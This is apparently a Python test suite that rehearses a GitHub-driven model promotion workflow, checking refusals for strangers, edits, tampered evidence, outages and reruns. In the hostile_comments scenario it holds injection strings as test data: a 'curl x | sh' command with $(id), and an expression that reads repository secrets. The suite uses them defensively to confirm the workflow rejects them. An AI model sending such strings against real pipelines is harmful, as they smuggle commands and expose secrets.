"""What a rehearsal plays through: each scenario acts, holds what happened to what has to, and says
what a person saw. A scenario that goes otherwise raises ``AssertionError``.
"""

import json
import sys
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from hashlib import sha256
from pathlib import Path

from lynx_pipeline.deploy_workflow.comment import NAME
from lynx_pipeline_tests.simulators.actions.fake_github import BOT
from lynx_pipeline_tests.simulators.actions.job import Cancelled, Hooks
from lynx_pipeline_tests.simulators.actions.runner import RunResult
from lynx_pipeline_tests.simulators.actions.stage import Stage, asks
from lynx_pipeline_tests.support.git_server import PUSH
from lynx_pipeline_tests.support.places import OnGit

V = "v0.1.0"
FAST = {"MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0"}
NOWHERE = "http://127.0.0.1:9"
BEGUN = ("request", "evaluate")


@dataclass(frozen=True)
class Seen:
    """What a person saw of a run: how it ended, the message, and what became of the registry."""

    what: str
    ended: str
    message: str
    registry: str


def ended(run: RunResult) -> str:
    """The first step that failed, with its exit code; or that all went well."""
    for name, job in run.jobs.items():
        for step in job.steps:
            if step.conclusion == "failure":
                last = job.steps[-1] if name == "evaluate" else step
                told = next((s for s in job.steps if s.id and s.conclusion == "failure"), last)
                return f"{name}: exit code {told.exit_code}"
    return "no run" if all(job.result == "skipped" for job in run.jobs.values()) else "exit code 0"


def said(run: RunResult) -> str:
    """What the failed job told, as the run's page shows it."""
    notes = [note for job in run.jobs.values() for note in job.annotations]
    ours = [note.message for note in notes if note.title == "lynx-pipeline"]
    others = [note.message for note in notes if note.level == "error"]
    return (ours or others or [""])[0]


def sticky(stage: Stage) -> str:
    """The one comment of the bot's; empty if it said nothing."""
    found = [comment.body for comment in stage.github.comments if comment.login == BOT]
    assert len(found) <= 1, "more than one comment"
    assert all(body.startswith(f"<!-- {NAME}, run ") for body in found)
    return found[0].partition("-->")[2].strip() if found else ""


def begun(stage: Stage) -> RunResult:
    """A run of the good candidate, evaluated and not promoted; made once, and to be gone on from
    differently each time. Its comment is the first one."""
    if stage.started is None:
        stage.clear()
        run = stage.runner(stage.comment(asks(stage.good, V)), _stop_before("promote")).run()
        assert run.jobs["evaluate"].result == "success", run.jobs["evaluate"].log
        stage.started = run.only(*BEGUN)
    return stage.started


def _stop_before(job: str) -> Hooks:
    def cancel() -> None:
        raise Cancelled

    return Hooks(before={job: cancel})


@contextmanager
def unchanged(stage: Stage) -> Iterator[None]:
    """The registry's remote is bit for bit what it was, and nothing is announced."""
    before, heard = files(stage.registry), len(stage.channel.got)
    yield
    assert files(stage.registry) == before
    assert len(stage.channel.got) == heard


def files(place: OnGit) -> dict[str, bytes]:
    """Every file of the repository but its hooks."""
    return {
        str(path.relative_to(place.bare)): path.read_bytes()
        for path in sorted(place.bare.rglob("*"))
        if path.is_file() and "hooks" not in path.parts
    }


def _promoted(stage: Stage, semver: str = V) -> None:
    """The registry holds this one promotion, by the workflow, with its tag."""
    (line,) = stage.registry.index().splitlines()
    entry = json.loads(line)
    assert (entry["semver"], entry["env"], entry["event"]) == (semver, "prod", "promoted")
    assert entry["actor"]["workflow_ref"].endswith("/deploy-grammar-tutor.yml@refs/heads/main")
    assert entry["actor"]["environment"] == "production"
    assert stage.registry.tags() == [f"grammar-tutor@{semver}"]


def _go_on(stage: Stage, hooks: Hooks, mlflow: str = "") -> RunResult:
    """The second half of a run of the good candidate."""
    given = begun(stage)
    stage.clear()
    runner = stage.runner(stage.comment(asks(stage.good, V)), hooks)
    return replace(runner, vars={"MLFLOW_TRACKING_URI": mlflow or stage.mlflow}).run(given)


def _refused(
    stage: Stage, what: str, act: Callable[[], object], code: int, says: str, mlflow: str = ""
) -> Seen:
    """Something happens between evaluation and promotion, and nothing is promoted."""
    begun(stage)
    stage.clear()  # whatever was played before
    with unchanged(stage):
        run = _go_on(stage, Hooks(before={"promote": act}, extra_env={"promote": FAST}), mlflow)
    assert run.jobs["promote"].result == "failure"
    assert ended(run) == f"promote: exit code {code}", run.jobs["promote"].log
    assert says in said(run), said(run)
    assert "stopped in job `promote`" in sticky(stage)
    return Seen(what, ended(run), said(run), "as before")


# ----- the two verdicts -----------------------------------------------------------------------


def clean(stage: Stage) -> list[Seen]:
    """A good candidate is promoted, tagged, told on the pull request and to the channel."""
    stage.clear()
    run = stage.runner(stage.comment(asks(stage.good, V))).run()
    assert {job.result for job in run.jobs.values()} == {"success"}, ended(run)
    _promoted(stage)
    assert sticky(stage).startswith(f"### Promoted `{V}`")
    assert run.jobs["report"].summary.startswith(f"### Promoted `{V}`")
    (heard,) = stage.channel.got
    assert heard["title"] == f"grammar-tutor: promoted {V} in prod"
    assert run.jobs["evaluate"].token not in run.jobs["evaluate"].log
    return [Seen("a clean candidate", ended(run), heard["title"], f"+ {V}, with its tag")]


def regressed(stage: Stage) -> list[Seen]:
    """A regressed one fails the run, with the bucket table in the one comment."""
    stage.clear()
    comment = stage.comment(asks(stage.bad, V))
    with unchanged(stage):
        run = stage.runner(comment).run()
    assert ended(run) == "evaluate: exit code 1"
    assert run.jobs["promote"].result == "skipped"
    told = sticky(stage)
    assert told.startswith(f"### Refused `{V}`: it failed the gate")
    assert "| tense.past&#95;simple |" in told
    assert run.jobs["report"].summary.strip() == told
    return [Seen("a regressed candidate", ended(run), said(run), "as before")]


def label(stage: Stage) -> list[Seen]:
    """The label starts the same as the comment; another label starts nothing."""
    stage.clear()
    comment = stage.comment(asks(stage.good, V))
    with unchanged(stage):
        other = stage.labelled("documentation").run()
        run = stage.labelled(hooks=_stop_before("evaluate")).run()
    assert ended(other) == "no run"
    assert run.jobs["request"].outputs["comment"] == str(comment.id)
    return [Seen("another label", ended(other), "", "as before")]


# ----- who asks, and how ----------------------------------------------------------------------


def hostile_comments(stage: Stage) -> list[Seen]:
    """Text that would slip through a shell, an expression or a lenient parser."""
    good = asks(stage.good, V)
    return [
        _misread(stage, "quotes and $()", f"\"; curl x | sh #$(id)`id`' {good}", "can't be read"),
        _misread(stage, "an expression", good + "${{ secrets.APPRISE_URLS }}", "can't be read"),
        _misread(
            stage, "newlines", f"mlflow_run_id={stage.good}\nsemver={V}", "contains 2 requests"
        ),
        _misread(stage, "two requests", f"{good}\n{good}", "contains 2 requests"),
        _misread(stage, "a look-alike", good.replace("semver", "\u0455emver"), "can't be read"),
        _misread(stage, "60 kB", "a" * 60_000 + good, "can't be read"),
    ]


def _misread(stage: Stage, what: str, text: str, says: str) -> Seen:
    stage.clear()
    comment = stage.comment(text)
    with unchanged(stage):
        run = stage.runner(comment).run()
    assert ended(run) == "request: exit code 2", run.jobs["request"].log
    assert says in said(run)
    assert run.jobs["evaluate"].result == "skipped"
    assert "semver&#61;v1.2.3" in sticky(stage) or "semver=v1.2.3" in sticky(stage)
    return Seen(f"hostile comment: {what}", ended(run), said(run), "as before")


def strangers(stage: Stage) -> list[Seen]:
    """Who may not ask is refused, and can't make the bot talk; other comments start nothing."""
    found = []
    for what, who, says in (
        ("an author not in CODEOWNERS", "mallory", "mallory is not an owner of"),
        ("an owner who can't write any more", "reader", "reader cannot write to this repository"),
    ):
        stage.clear()
        comment = stage.comment(asks(stage.good, V), who)
        with unchanged(stage):
            run = stage.runner(comment).run()
        assert ended(run) == "request: exit code 1"
        assert says in said(run)
        assert sticky(stage) == ""
        found.append(Seen(what, ended(run), said(run), "as before"))
    stage.clear()
    old = stage.runner(stage.comment(asks(stage.good, V)))
    for what, who, again in (
        ("an old request, and somebody else sets the label", "reader", stage.labelled(by="reader")),
        ("an old run that somebody else runs again", "hubot", replace(old, again_by="hubot")),
    ):
        with unchanged(stage):
            run = again.run()
        assert ended(run) == "request: exit code 1"
        assert f"octocat requested the release, but {who} triggered this run: {who}" in said(run)
        assert sticky(stage) == ""
        found.append(Seen(what, ended(run), said(run), "as before"))
    stage.clear()
    with unchanged(stage):
        run = stage.runner(stage.comment("LGTM")).run()
        stage.pull.labels.clear()
        unlabelled = stage.runner(stage.comment(asks(stage.good, V))).run()
    assert ended(run) == ended(unlabelled) == "no run"
    return [*found, Seen("another comment, or no label", ended(run), "", "as before")]


def edited(stage: Stage) -> list[Seen]:
    """A comment that was edited is ignored, at the start, also within the second in which
    it was written, and before the promotion."""

    def edit() -> None:
        comment = stage.github.comments[0]
        comment.edit(comment.body)

    stage.clear()
    comment = stage.comment("LGTM")
    comment.edit(asks(stage.good, V), at=comment.created_at)
    with unchanged(stage):
        run = stage.labelled().run()
    assert ended(run) == "request: exit code 1"
    assert "edited after it was written" in said(run)
    first = Seen("a comment edited at once", ended(run), said(run), "as before")
    later = _refused(stage, "a comment edited meanwhile", edit, 1, "edited after it was written")
    return [first, later]


def taken_back(stage: Stage) -> list[Seen]:
    """The label, the comment or the author's right is gone before the promotion."""
    lost = stage.github.collaborators
    try:
        return [
            _refused(
                stage,
                "the label removed meanwhile",
                lambda: stage.pull.labels.clear(),
                1,
                "has no label 'deploy-candidate'",
            ),
            _refused(
                stage,
                "a newer request meanwhile",
                lambda: stage.comment(asks(stage.bad, "v0.2.0")),
                1,
                "a newer request has its own run",
            ),
            _refused(
                stage,
                "an author who lost the right meanwhile",
                lambda: lost.update(octocat="read"),
                1,
                "octocat cannot write to this repository",
            ),
        ]
    finally:
        lost["octocat"] = "admin"


# ----- what is promoted -----------------------------------------------------------------------


def tampered(stage: Stage) -> list[Seen]:
    """The evidence is exchanged on its way, with and without GitHub's own digest."""

    def change(member: str, digest: bool) -> Callable[[], None]:
        def act() -> None:
            archive = _latest(stage) / "evidence.zip"
            with zipfile.ZipFile(archive) as old:
                kept = {name: old.read(name) for name in old.namelist()}
            kept[member] = kept[member].replace(b'"correct": 1134', b'"correct": 1200') + b"\n"
            with zipfile.ZipFile(archive, "w") as new:
                for name, raw in kept.items():
                    new.writestr(name, raw)
            if digest:
                about = archive.with_suffix(".json")
                values = json.loads(about.read_text())
                values["digest"] = sha256(archive.read_bytes()).hexdigest()
                about.write_text(json.dumps(values))

        return act

    return [
        _refused(
            stage,
            "the evidence changed in transit",
            change("candidate_eval.json", False),
            1,
            "digest validation failed",
        ),
        _refused(
            stage,
            "the evaluation exchanged, its digest too",
            change("candidate_eval.json", True),
            2,
            "it changed in transit",
        ),
        _refused(
            stage,
            "the predictions exchanged, their digest too",
            change("predictions.parquet", True),
            2,
            "its SHA-256 differs",
        ),
    ]


def _latest(stage: Stage) -> Path:
    """The artifacts of the run under way."""
    return stage.folder / "runs" / str(stage.runs) / "attempt-1" / "artifacts"


def relogged(stage: Stage) -> list[Seen]:
    """Another model under the same run, after the evaluation."""
    try:
        return [
            _refused(
                stage,
                "the candidate logged again meanwhile",
                lambda: stage.relog(stage.good),
                2,
                "has changed since its evaluation",
            )
        ]
    finally:
        stage.unlog()


def elsewhere(stage: Stage) -> list[Seen]:
    """A run whose artifacts lie on somebody's own host: nobody goes there with the token."""
    stage.clear()
    comment = stage.comment(asks(stage.log_elsewhere(), V))
    runner = stage.runner(comment)
    with unchanged(stage):
        run = replace(runner, secrets={"MLFLOW_TRACKING_TOKEN": "precious"}).run()
    assert ended(run) == "request: exit code 1", run.jobs["request"].log
    assert "neither its own artifact service nor in 'artifact_locations'" in said(run)
    return [Seen("artifacts on another host", ended(run), said(run), "as before")]


# ----- what is down ---------------------------------------------------------------------------


def mlflow_down(stage: Stage) -> list[Seen]:
    """Before the evaluation, and before the promotion."""
    stage.clear()
    runner = stage.runner(stage.comment(asks(stage.good, V)), Hooks(extra_env={"request": FAST}))
    with unchanged(stage):
        run = replace(runner, vars={"MLFLOW_TRACKING_URI": NOWHERE}).run()
    assert ended(run) == "request: exit code 3"
    assert "MLflow at http://127.0.0.1:9 failed" in said(run)
    assert "stopped in job `request`" in sticky(stage)
    first = Seen("MLflow down at the request", ended(run), said(run), "as before")
    later = _refused(stage, "MLflow down at the promotion", lambda: None, 3, "MLflow at", NOWHERE)
    return [first, later]


def dvc_down(stage: Stage) -> list[Seen]:
    """The eval set can't be pulled."""
    given = begun(stage).only("request")
    stage.clear()
    away = stage.dvc_remote.with_name("away")
    comment = stage.comment(asks(stage.good, V))
    stage.dvc_remote.rename(away)
    try:
        with unchanged(stage):
            run = stage.runner(comment).run(given)
    finally:
        away.rename(stage.dvc_remote)
    assert ended(run) == "evaluate: exit code 3", run.jobs["evaluate"].log[-3000:]
    assert run.jobs["promote"].result == "skipped"
    assert "stopped in job `evaluate`" in sticky(stage)
    return [Seen("DVC's remote down", ended(run), said(run), "as before")]


def github_down(stage: Stage) -> list[Seen]:
    """Whether it is still asked for can't be asked."""

    def fall() -> None:
        stage.github.down = True

    def rise() -> None:
        stage.github.down = False

    begun(stage)
    with unchanged(stage):
        run = _go_on(stage, Hooks(before={"promote": fall, "report": rise}))
    assert ended(run) == "promote: exit code 3"
    assert "reading pull request 7 failed" in said(run), run.jobs["promote"].log
    return [Seen("GitHub's API down", ended(run), said(run), "as before")]


def rejected(stage: Stage) -> list[Seen]:
    """The registry's remote takes no push."""
    return [
        _refused(
            stage,
            "the registry's push rejected",
            lambda: stage.registry.hook("pre-receive", "echo 'not today' >&2; exit 1"),
            3,
            "the remote rejected the entry",
        )
    ]


# ----- again ----------------------------------------------------------------------------------

# Kills a step and all that it started when a marker appears, as when a machine is gone.
_KILLER = """
import os, pathlib, signal, subprocess, sys, time
marker, *command = sys.argv[1:]
child = subprocess.Popen(command)
while child.poll() is None and not pathlib.Path(marker).exists():
    time.sleep(0.005)
def tree(pid):
    for task in pathlib.Path(f"/proc/{pid}/task").glob("*"):
        for one in (task / "children").read_text().split():
            yield from tree(one)
    yield int(pid)
for pid in list(tree(child.pid)):
    try:
        os.kill(pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
sys.exit(137)
"""


def killed(stage: Stage) -> list[Seen]:
    """The machine is gone as the push begins, and just after it; the failed jobs run again."""
    marker = stage.folder / "marker"
    killer = stage.folder / "tools" / "killer.py"
    killer.write_text(_KILLER)
    wrap = {"promote/promote": [sys.executable, str(killer), str(marker)]}
    found = []
    for what, after in (("before the push", False), ("after the push", True)):
        given = begun(stage)
        stage.clear()
        marker.unlink(missing_ok=True)
        if after:
            stage.registry.hook("post-receive", f"touch {marker}; sleep 1")
        else:
            stage.asked[PUSH] = marker.touch
        runner = stage.runner(stage.comment(asks(stage.good, V)), Hooks(wrap=wrap))
        try:
            run = runner.run(given)
        finally:
            stage.asked.pop(PUSH, None)
        assert ended(run) == "promote: exit code 137", run.jobs["promote"].log
        assert "running the failed jobs again is safe" in sticky(stage)
        if after:
            _promoted(stage)
        again = replace(runner, hooks=replace(runner.hooks, wrap={
            key: value for key, value in runner.hooks.wrap.items() if key not in wrap
        })).rerun_failed(run)  # fmt: skip
        assert ended(again) == "exit code 0", again.jobs["promote"].log
        _promoted(stage)
        assert sticky(stage).startswith(f"### Promoted `{V}`")
        assert len(stage.channel.got) == 1
        state = f"+ {V}" if after else "old or complete new"
        found += [
            Seen(f"killed {what}", ended(run), said(run), state),
            Seen(f"killed {what}, run again", ended(again), "", f"+ {V}, once"),
        ]
    return found


def twice(stage: Stage) -> list[Seen]:
    """The same request again finds it done: nothing is written or announced again."""
    given = begun(stage)
    stage.clear()
    comment = stage.comment(asks(stage.good, V))
    first = stage.runner(comment).run(given)
    assert ended(first) == "exit code 0", first.jobs["promote"].log
    _promoted(stage)
    with unchanged(stage):
        second = stage.runner(comment).run(given)
        stage.pull.labels.clear()
        by_others = replace(stage.runner(comment), again_by="hubot").run(given)
    for run in (second, by_others):
        assert ended(run) == "exit code 0", run.jobs["promote"].log
    assert sticky(stage).startswith(f"### `{V}` was already promoted")
    return [
        Seen("the same request twice", ended(second), "", "as before"),
        Seen("its job run again by somebody else", ended(by_others), "", "as before"),
    ]


def late(stage: Stage) -> list[Seen]:
    """The job that reports, run again for an old run, says nothing over what is in force."""
    given = begun(stage)
    stage.clear()
    comment = stage.comment(asks(stage.good, V))
    first = stage.runner(comment)
    old = first.run(given)
    again = stage.comment(asks(stage.good, "v0.2.0"))
    ready = given.jobs["request"]
    outputs = {**ready.outputs, "comment": str(again.id), "semver": "v0.2.0"}
    request = replace(ready, outputs=outputs)
    new = stage.runner(again).run(replace(given, jobs={**given.jobs, "request": request}))
    assert ended(new) == "exit code 0", new.jobs["promote"].log
    told = sticky(stage)
    assert told.startswith("### Promoted `v0.2.0`")
    with unchanged(stage):
        report = replace(first, run_attempt=2).run(old.only("request", "evaluate", "promote"))
    assert ended(report) == "exit code 0"
    assert (
        f"{V} is not the latest version, v0.2.0 is. No notification sent."
        in report.jobs["report"].log
    )
    assert "A later run wrote the comment" in report.jobs["report"].log
    assert sticky(stage) == told
    return [Seen("the old run's report again", ended(report), said(report), "as before")]


def apart(stage: Stage) -> list[Seen]:
    """The registry in a repository of its own, which only the environment's token can write to."""
    stage.apart = {"registry-writes": "write", "registry-reads": "read"}
    reads = {"LYNX_REGISTRY_TOKEN": "registry-reads"}
    writes = {"production": {"LYNX_REGISTRY_TOKEN": "registry-writes"}}
    found = []
    try:
        for what, its in (("which the job can't write to", {}), ("with a token for it", writes)):
            given = begun(stage)
            stage.clear()
            runner = stage.runner(stage.comment(asks(stage.good, V)))
            secrets = {**runner.secrets, **reads}
            runner = replace(runner, secrets=secrets, environment_secrets=its)
            before = files(stage.registry)
            run = runner.run(given)
            found.append(Seen(f"a registry apart, {what}", ended(run), said(run), "as before"))
            if not its:
                assert ended(run) == "promote: exit code 3", run.jobs["promote"].log
                assert files(stage.registry) == before
    finally:
        stage.apart.clear()
    assert ended(run) == "exit code 0", run.jobs["promote"].log
    _promoted(stage)
    assert len(stage.channel.got) == 1
    return [*found[:-1], replace(found[-1], registry=f"+ {V}, with its tag")]


def unheard(stage: Stage) -> list[Seen]:
    """A channel that can't be reached is reported, and the promotion stands."""

    def deaf() -> None:
        stage.channel.status = 500

    run = _go_on(stage, Hooks(before={"report": deaf}))
    assert ended(run) == "exit code 0"
    _promoted(stage)
    assert "The announcement failed; the log says why." in sticky(stage)
    return [Seen("a channel that is down", ended(run), said(run), f"+ {V}")]


ALL: tuple[Callable[[Stage], list[Seen]], ...] = (
    *(clean, regressed, label, hostile_comments, strangers, edited, taken_back, tampered),
    *(relogged, elsewhere, mlflow_down, dvc_down, github_down, rejected),
    *(killed, twice, late, apart, unheard),
)
